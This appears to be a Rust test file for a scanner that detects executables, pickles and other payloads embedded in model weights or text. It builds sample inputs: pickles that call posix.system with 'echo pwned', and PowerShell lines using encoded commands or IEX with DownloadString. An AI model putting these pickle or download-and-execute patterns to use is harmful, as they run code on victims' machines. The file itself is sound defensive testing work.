//! What is found among numbers, and that the beginnings of such things alone are not.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects
)]

use ma_core::Collector;
use ma_testkit::malformed::Rng;
use ma_testkit::run;

use super::*;

fn noise(n: usize) -> Vec<u8> {
    let mut rng = Rng::new(5);
    (0..n).map(|_| (rng.number() >> 17) as u8).collect()
}

fn found(bytes: &[u8], range: std::ops::Range<u64>, kind: RegionKind, piece: usize) -> Collector {
    let artifact = run::artifact("x", bytes);
    run::detect(
        &Embedded::default(),
        &artifact,
        &Region::new(range, kind),
        piece,
    )
}

pub(crate) fn elf(machine: u8) -> Vec<u8> {
    let mut elf = vec![0x7f, b'E', b'L', b'F', 2, 1, 1];
    elf.resize(64, 0);
    (elf[16], elf[18], elf[20], elf[52]) = (3, machine, 1, 64);
    elf
}

fn pe() -> Vec<u8> {
    let mut pe = vec![0; 0x80];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe.extend(b"PE\0\0\x64\x86\x01\x00");
    pe.extend([0; 16]);
    pe.extend([0x0b, 0x02, 0, 0]);
    pe
}

fn zip() -> Vec<u8> {
    let member = ma_testkit::zip::Member::stored("a.txt", b"hello");
    ma_testkit::zip::Zip::of([member]).bytes()
}

fn things() -> Vec<(&'static str, Vec<u8>)> {
    let script = format!(
        "#!/bin/sh\necho pwned\n{}",
        "# a comment that is long\n".repeat(4)
    );
    let source = format!("import os\n{}", "x = 1  # and so on, and so on\n".repeat(4));
    let mut wasm = b"\0asm\x01\0\0\0\x01\x07\x01\x60".to_vec();
    wasm.extend([2, 0x7f, 0x7f, 1]);
    let mut dex = b"dex\n035\0".to_vec();
    dex.resize(36, 1);
    dex.extend([0x70, 0, 0, 0, 0x78, 0x56, 0x34, 0x12]);
    let class =
        b"\xca\xfe\xba\xbe\0\0\0\x3d\0\x10\x07\0\x02\x01\0\x04Evil\x07\0\x04\x01\0\x02Ok\x01"
            .to_vec();
    let mut pyc = b"\xa7\r\r\n\0\0\0\0".to_vec();
    pyc.extend([9; 8]);
    pyc.extend(b"\xe3\0\0\0\0\0\0\0\0");
    vec![
        ("elf", elf(62)),
        ("pe", pe()),
        ("wasm", wasm),
        ("dex", dex),
        ("class", class),
        ("lua", b"\x1bLua\x53\x00\x19\x93\r\n\x1a\n\x04\x08\x04".to_vec()),
        ("pyc", pyc),
        ("script", script.into_bytes()),
        ("source", source.into_bytes()),
        ("pickle 0", b"cposix\nsystem\n(S'echo pwned'\ntR.".to_vec()),
        ("pickle 2", b"\x80\x02cposix\nsystem\nX\x0a\0\0\0echo pwned\x85R.".to_vec()),
        ("pickle 4", b"\x80\x04\x95\x23\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x0aecho pwned\x94\x85\x94R\x94.".to_vec()),
        ("zip", zip()),
        ("java", b"\xac\xed\0\x05sr\0\x11java.util.HashMapxx".to_vec()),
    ]
}

#[test]
fn everything_is_found_once_wherever_it_lies_and_however_it_is_cut() {
    for (name, thing) in things() {
        for before in [0, 1000, 5000] {
            let mut bytes = noise(before);
            bytes.extend(&thing);
            bytes.extend(vec![0x80; 40]);
            bytes.extend(noise(9000));
            let all = 0..bytes.len() as u64;
            let whole = found(&bytes, all.clone(), RegionKind::Weights, usize::MAX >> 1);
            assert_eq!(whole.issues.len(), 1, "{name} after {before}");
            let at = whole.issues[0].location.range.clone().unwrap().start;
            assert_eq!(at, before as u64, "{name}");
            for piece in [100, 4096] {
                let cut = found(&bytes, all.clone(), RegionKind::Weights, piece);
                assert_eq!(cut.issues, whole.issues, "{name} in pieces of {piece}");
                assert_eq!(cut.children.len(), whole.children.len());
            }
            // Without its first bytes it is nothing.
            match name {
                "pyc" => drop(bytes.remove(before + 1)),
                "pickle 2" => drop(bytes.drain(before..before + 3)),
                _ => drop(bytes.remove(before)),
            }
            let all = 0..bytes.len() as u64;
            let broken = found(&bytes, all, RegionKind::Weights, 4096);
            assert_eq!(broken.issues, [], "{name} without its first byte");
        }
    }
}

#[test]
fn where_it_lies_decides() {
    let mut bytes = noise(64);
    bytes.extend(elf(62));
    bytes.extend(noise(64));
    let severity = |range, kind| found(&bytes, range, kind, 4096).issues[0].severity;
    assert_eq!(severity(0..192, RegionKind::Weights), Severity::Warning);
    assert_eq!(severity(64..192, RegionKind::Weights), Severity::Critical);
    assert_eq!(severity(0..192, RegionKind::Unclaimed), Severity::Critical);
    assert_eq!(found(&bytes, 0..192, RegionKind::Text, 4096).issues, []);
    bytes[64 + 18] = 190;
    let cuda = found(&bytes, 64..192, RegionKind::Weights, 4096);
    assert_eq!(cuda.issues[0].severity, Severity::Info);
}

#[test]
fn what_can_be_scanned_is_handed_out() {
    for (name, thing) in things() {
        let mut bytes = noise(500);
        bytes.extend(&thing);
        let length = thing.len() as u64;
        bytes.extend(noise(500));
        let all = 0..bytes.len() as u64;
        let children = found(&bytes, all, RegionKind::Weights, 4096).children;
        let hints: Vec<_> = children.iter().map(|c| (c.hint, c.blob.len())).collect();
        let want = match name {
            "zip" => vec![(Some(Kind::ZIP), length)],
            "pyc" => vec![(Some(Kind::MARSHAL), length + 500)],
            _ if name.starts_with("pickle") => vec![(Some(Kind::PICKLE), length)],
            _ => vec![],
        };
        assert_eq!(hints, want, "{name}");
    }
}

#[test]
fn beginnings_are_nothing() {
    let mut bytes = noise(4 << 20);
    for (i, literal) in [
        &b"MZ"[..],
        b"\x7fELF",
        b"PK\x05\x06",
        b"\x80\x04\x95",
        b"\xca\xfe\xba\xbe",
        b"#!/bin/sh\n\0",
        b"\x80\x02}",
        b"import os",
    ]
    .iter()
    .enumerate()
    {
        for k in 0..50 {
            let at = (i * 50 + k) * 8000;
            bytes[at..at + literal.len()].copy_from_slice(literal);
        }
    }
    let all = 0..bytes.len() as u64;
    let found = found(&bytes, all, RegionKind::Weights, 1 << 18);
    assert_eq!(
        (found.issues.len(), found.children.len()),
        (0, 0),
        "{:?}",
        found.issues
    );
}

#[test]
fn a_pickle_that_only_holds_data_is_none() {
    let mut bytes = noise(100);
    bytes.extend(b"\x80\x04\x95\x0a\0\0\0\0\0\0\0}\x94\x8c\x01a\x94K\x01s.");
    let all = 0..bytes.len() as u64;
    assert_eq!(found(&bytes, all, RegionKind::Weights, 4096).issues, []);
}

#[test]
fn command_lines_in_text() {
    let base64 = "JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==";
    let text = |text: &str| {
        let bytes = text.as_bytes();
        let found = found(bytes, 0..bytes.len() as u64, RegionKind::Text, 4096);
        found.issues.len()
    };
    assert_eq!(text(&format!("run: powershell -nop -enc {base64}")), 1);
    assert_eq!(text(&format!("PowerShell.exe -EncodedCommand {base64}")), 1);
    assert_eq!(
        text("powershell IEX (New-Object Net.WebClient).DownloadString('http://x')"),
        1
    );
    assert_eq!(
        text("powershell -ExecutionPolicy Bypass -File install.ps1"),
        0
    );
    assert_eq!(text("use powershell -enc for encoded commands"), 0);
}
